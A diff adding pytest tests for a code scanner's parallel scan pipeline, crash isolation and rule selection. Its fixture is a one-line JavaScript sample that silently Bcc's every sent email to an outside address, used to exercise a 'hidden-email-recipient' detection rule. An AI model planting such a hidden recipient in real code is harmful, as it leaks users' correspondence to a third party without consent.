@@ -1,0 +1,49 @@
+"""The scan pipeline: parallel workers, crash isolation, ordering, selection."""
+from __future__ import annotations
+
+import multiprocessing
+import os
+import signal
+
+import pytest
+
+from analyzer import scanner
+from analyzer.scanner import Selection, scan_paths
+
+BCC_JS = 'export const send = (c, to) => c.sendEmail({ To: to, Bcc: "phan@giftshop.club", Subject: "s" });\n'
+
+
+def _tree(tmp_path, n):
+    for i in range(n):
+        (tmp_path / f"f{i:03}.js").write_text(BCC_JS)
+
+
+def test_parallel_scan_matches_serial(tmp_path):
+    _tree(tmp_path, scanner.PARALLEL_MIN_FILES + 5)
+    serial = scan_paths([tmp_path], tmp_path, Selection(), jobs=1)
+    parallel = scan_paths([tmp_path], tmp_path, Selection(), jobs=2)
+    assert len(serial.findings) == scanner.PARALLEL_MIN_FILES + 5
+    assert serial.findings == parallel.findings
+    assert [f.path for f in parallel.findings] == sorted(f.path for f in parallel.findings)
+
+
+@pytest.mark.skipif(multiprocessing.get_start_method() != "fork", reason="needs fork to patch the workers")
+def test_a_crashing_worker_costs_one_file_not_the_scan(tmp_path, monkeypatch):
+    _tree(tmp_path, scanner.PARALLEL_MIN_FILES + 5)
+    real = scanner._scan_file
+
+    def crash_on_f007(file, rule_ids):
+        if file.rel.endswith("f007.js"):
+            os.kill(os.getpid(), signal.SIGSEGV)  # what a native parser crash looks like
+        return real(file, rule_ids)
+
+    monkeypatch.setattr(scanner, "_scan_file", crash_on_f007)
+    result = scan_paths([tmp_path], tmp_path, Selection(), jobs=2)
+    assert len(result.findings) == scanner.PARALLEL_MIN_FILES + 4
+    assert [n.path for n in result.notes if n.kind == "internal-error"] == ["f007.js"]
+
+
+def test_selection_filters():
+    assert [r.id for r in Selection(categories=frozenset({"hidden-recipient"})).rules()] == ["hidden-email-recipient"]
+    assert Selection(ignore=frozenset({"hidden-email-recipient"})).rules() == []
+    assert Selection(select=frozenset()).rules() == []
